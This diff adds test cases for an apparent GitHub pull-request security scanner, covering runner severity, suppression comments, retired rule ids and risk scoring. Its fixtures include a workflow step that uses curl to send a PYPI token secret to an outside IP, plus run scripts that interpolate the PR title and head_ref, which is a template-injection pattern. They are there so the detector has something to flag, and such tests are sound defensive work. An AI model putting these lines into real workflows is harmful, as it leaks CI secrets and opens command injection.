@@ -10,6 +10,7 @@ import { type Report, parseConfig } from '@security-actions/core';
 import { main } from '../../packages/cli/src/main';
 import { type ScanOptions, scanPr } from '../../actions/pr-anomaly-scan/src/engine';
 import { riskScore } from '../../actions/pr-anomaly-scan/src/score';
+import { prMetaFromEvent } from '../../actions/pr-anomaly-scan/src/meta';
 import { gitCheckout, unquotePath } from '../../actions/pr-anomaly-scan/src/git';
 import type { GitIO } from '../../actions/pr-anomaly-scan/src/types';
 import { expectFires, expectQuiet } from '../helpers/rules';
@@ -99,6 +100,29 @@ describe('bad input', () => {
       expectFires(res.findings, 'meta/branch-name-shell', 1);
     } finally {
       rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it("self-hosted runners are judged by the repository's visibility, which the event gives", async () => {
+    const wf =
+      'on: pull_request\npermissions: {}\njobs:\n  gpu:\n    runs-on: [self-hosted, gpu]\n    steps:\n      - run: pytest\n';
+    const severity = async (event: Record<string, unknown>) =>
+      (await scan({}, { '.github/workflows/gpu.yml': wf }, { meta: prMetaFromEvent(event) })).findings
+        .filter((f) => f.ruleId === 'workflow/self-hosted-runner')
+        .map((f) => f.severity);
+    expect(await severity({ repository: { full_name: 'o/r', visibility: 'private' } })).toEqual(['medium']);
+    expect(await severity({ repository: { full_name: 'o/r', private: false } })).toEqual(['high']);
+    expect(await severity({})).toEqual(['high']); // unknown: judged as public
+  });
+
+  it("returns the head commit the findings' lines refer to, for links in the reports", async () => {
+    const r = buildRepo({ 'a.txt': 'a\n' }, { 'a.txt': 'b\n' });
+    try {
+      const res = await scanPr(options(r.dir, { base: r.base, head: r.head }));
+      expect(res.commit).toBe(execFileSync('git', ['rev-parse', r.head], { cwd: r.dir, encoding: 'utf8' }).trim());
+      expect(res.commit).toMatch(/^[0-9a-f]{40}$/);
+    } finally {
+      r.cleanup();
     }
   });
 
@@ -231,6 +255,31 @@ describe('suppressions', () => {
     expectFires(bare.findings, 'workflow/unpinned-uses', 1);
   });
 
+  it('an ignore above a step covers the workflow findings anywhere inside it, its run script included', async () => {
+    const wf = (comment: string) =>
+      `on: pull_request_target\npermissions: {}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n${comment}      - name: greet\n        run: |\n          echo start\n          echo "\${{ github.event.pull_request.title }}"\n      - run: echo "\${{ github.head_ref }}"\n`;
+    const ignore = '      # pr-anomaly-scan: ignore[workflow/template-injection] the title is printed, never run\n';
+    const res = await scan({}, { '.github/workflows/greet.yml': wf(ignore) });
+    const injections = res.findings.filter((f) => f.ruleId === 'workflow/template-injection');
+    // The title sits three lines below the comment, inside the step's script; the next step is not covered.
+    expect(injections.map((f) => [f.location?.line, Boolean(f.suppression)])).toEqual([
+      [11, true],
+      [12, false]
+    ]);
+    expectFires(res.findings, 'workflow/template-injection', 1);
+  });
+
+  it('an inline ignore naming a retired workflow rule id still applies, with a note naming the new id', async () => {
+    const wf = `on: pull_request\npermissions: {}\njobs:\n  gpu:\n    # pr-anomaly-scan: ignore[workflow/self-hosted-pr] ephemeral runner, approval required\n    runs-on: [self-hosted, gpu]\n    steps:\n      - run: pytest\n`;
+    const res = await scan({}, { '.github/workflows/gpu.yml': wf });
+    const f = res.findings.find((x) => x.ruleId === 'workflow/self-hosted-runner')!;
+    expect(f.suppression?.reason).toBe('ephemeral runner, approval required');
+    expectQuiet(res.findings, 'workflow/self-hosted-runner');
+    expect(res.notes!.join('\n')).toContain(
+      'the rule workflow/self-hosted-pr is now workflow/self-hosted-runner; the entry was applied'
+    );
+  });
+
   it("the base config's content-hash allowlist suppresses a known fixture, the score counts what stands, and it stops when it expires", async () => {
     const blob = Buffer.concat([Buffer.from('\xfd7zXZ\x00', 'latin1'), noise(2000, 4)]);
     const sha256 = createHash('sha256').update(blob).digest('hex');
@@ -296,6 +345,30 @@ describe('risk score', () => {
     expect(strong.score.chains).toContain('obfuscated data reaches code execution');
   });
 
+  it('workflow findings of the core audit keep their families: secrets sent out chain, job-level grants add little', async () => {
+    const send = await scan(
+      {},
+      {
+        '.github/workflows/x.yml':
+          'on: push\npermissions: {}\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "${{ secrets.PYPI_TOKEN }}" https://203.0.113.9/c\n'
+      }
+    );
+    expectFires(send.findings, 'workflow/secrets-to-outside-host', 1);
+    expect(send.score.chains).toContain('workflow sends secrets out');
+    const grants = await scan(
+      {},
+      {
+        '.github/workflows/x.yml':
+          'on: pull_request\npermissions: {}\njobs:\n  x:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          persist-credentials: false\n'
+      }
+    );
+    expect(grants.findings.filter((f) => f.ruleId === 'workflow/write-permissions').map((f) => f.severity)).toEqual([
+      'info'
+    ]);
+    expect(grants.score.score).toBeLessThan(send.score.score);
+    expect(grants.score.score).toBeLessThan(2);
+  });
+
   it('caps many weak findings', () => {
     const weak = Array.from(
       { length: 50 },
@@ -318,7 +391,7 @@ describe('sp-security pr-scan', () => {
         cwd: r.dir
       });
       expect(out).toMatch(/HIGH\s+meta\/ide-autorun\s+\.vscode\/tasks\.json:1/);
-      expect(out).toMatch(/NOT CHECKED account-age: no token given/);
+      expect(out).toMatch(/NOT CHECKED author-trust: no token given/);
       expect(code).toBe(1);
       expect(out).toMatch(/FAIL: 1 high at or above --fail-on high/);
     } finally {
